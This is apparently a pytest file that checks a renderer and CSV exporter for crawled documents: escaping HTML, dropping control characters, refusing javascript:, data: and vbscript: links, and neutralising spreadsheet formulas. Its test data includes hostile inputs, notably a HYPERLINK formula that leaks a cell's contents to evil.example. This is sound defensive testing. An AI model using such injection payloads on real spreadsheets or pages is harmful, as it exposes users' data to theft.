"""The one renderer of crawled text, on the hostile corpus: no format or control character, no
markup or link, a cap on what is shown, spreadsheet-safe cells (and files read back)."""

from __future__ import annotations

import csv
import html
import io
import re
from pathlib import Path

import pytest

from render import CELL, crawled, csv_bytes, link, safe_url, text_table
from tests.hostile import formula_cells, hostile_fields, invisible

csv.field_size_limit(1 << 24)  # the hostile corpus holds 1 MB fields
FIELDS = [(doc["id"], name, doc[name]) for doc in hostile_fields() for name in ("title", "author", "text", "url")]


@pytest.mark.parametrize(("doc", "field", "value"), FIELDS, ids=[f"{d}-{f}" for d, f, _ in FIELDS])
def test_every_hostile_field_is_shown_as_plain_capped_text(doc: str, field: str, value: str) -> None:
    text = crawled(value)
    assert invisible(text) == [] and "\n" not in text and len(text) <= CELL
    shown = crawled(value, to="html", limit=None)
    assert invisible(shown) == []
    body = shown.removeprefix("<bdi>").removesuffix("</bdi>")
    assert "<" not in body and ">" not in body  # no tag of its own: every < and > is escaped
    assert html.unescape(body) == crawled(value, limit=None)
    assert formula_cells([[crawled(value, to="csv")]]) == []


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", "//evil.example/x",
                                 "/relative", "http:///nohost", "https://ok.example/a b", "vbscript:x", None, 42,
                                 "https://evil.example/\u202egpj.exe", "https://a.example/\u0007"])
def test_only_plain_http_links_are_drawn(url: object) -> None:
    assert safe_url(url) is None
    assert "<a " not in link("source", url)


def test_an_http_link_opens_without_a_referrer_and_its_label_is_text() -> None:
    drawn = link("El Comercio <b>[1]</b>", "https://elcomercio.pe/lima/nota-(1)/?a=1&b=\"2\"")
    assert drawn.startswith('<a href="https://elcomercio.pe/lima/nota-(1)/?a=1&amp;b=&quot;2&quot;" target="_blank" '
                            'rel="noopener noreferrer nofollow">')
    assert "&lt;b&gt;[1]&lt;/b&gt;" in drawn


def test_a_one_megabyte_field_is_cut_quickly_and_shown_whole_on_demand() -> None:
    import time

    title = [d for d in hostile_fields() if d["id"] == "huge"][0]["title"]
    started = time.perf_counter()
    shown = crawled(title, limit=300)
    assert time.perf_counter() - started < 0.5 and len(shown) == 300 and shown.endswith("…")
    assert len(crawled(title, limit=None)) == len(title)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_kept() -> None:
    rows = [[d["title"], d["author"], d["text"]] for d in hostile_fields()] + [[-3, 1.5, "-12.5"], ["+51 999", "@x", "%"]]
    data = csv_bytes(["title", "author", "text"], rows, bom=True)
    assert data.startswith("\ufeff".encode())
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert formula_cells(read) == []
    assert read[-2] == ["-3", "1.5", "-12.5"] and read[-1] == ["'+51 999", "'@x", "'%"]
    assert read[5][0] == "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Ver nota\")"  # the text itself kept


def test_the_explorer_export_opens_in_a_spreadsheet_without_formulas(filled_db: Path) -> None:
    from tests.hostile import hostile_documents
    from warehouse import connect
    from warehouse.documents import insert_documents
    from warehouse.explorer import Selection, export

    with connect(filled_db) as con:
        insert_documents(con, hostile_documents())
    with connect(filled_db, read_only=True) as con:
        plain = export(con, Selection(campaign="miraflores-canales"), "csv")
        excel = export(con, Selection(campaign="miraflores-canales"), "csv", bom=True)
    rows = list(csv.reader(io.StringIO(plain.decode("utf-8"), newline="")))
    assert len(rows) == 1 + 90 + len(hostile_fields())
    assert formula_cells(rows) == []
    assert excel == b"\xef\xbb\xbf" + plain and not plain.startswith(b"\xef\xbb\xbf")
    titles = {row[rows[0].index("doc_id")]: row[rows[0].index("title")] for row in rows[1:]}
    assert len(titles["hostile-huge"]) == 1_000_015  # exports carry whole texts


def test_vigia_sql_csv_is_spreadsheet_safe_too(filled_db: Path) -> None:
    import os
    import subprocess
    import sys

    from tests.hostile import hostile_documents
    from warehouse import connect
    from warehouse.documents import insert_documents

    with connect(filled_db) as con:
        insert_documents(con, hostile_documents())
    out = subprocess.run([sys.executable, "-m", "cli", "sql", "--db", str(filled_db), "--format", "csv", "--bom",
                          "SELECT doc_id, title, author, text, url, sentiment_score FROM mentions ORDER BY doc_id"],
                         cwd=Path(__file__).resolve().parents[2], capture_output=True, env=dict(os.environ), timeout=120)
    assert out.returncode == 0, out.stderr
    assert out.stdout.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(out.stdout.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1 + 90 + len(hostile_fields()) and formula_cells(rows) == []
    assert any(re.fullmatch(r"-0\.\d+", row[-1]) for row in rows[1:])  # negative scores stay numbers


def test_the_terminal_table_shows_no_escape_sequence() -> None:
    table = text_table(["title", "author"], [[d["title"], d["author"]] for d in hostile_fields()])
    assert invisible(table.replace("\n", "")) == [] and "\x1b" not in table
    assert max(len(line) for line in table.splitlines()) <= 2 * 60 + 2
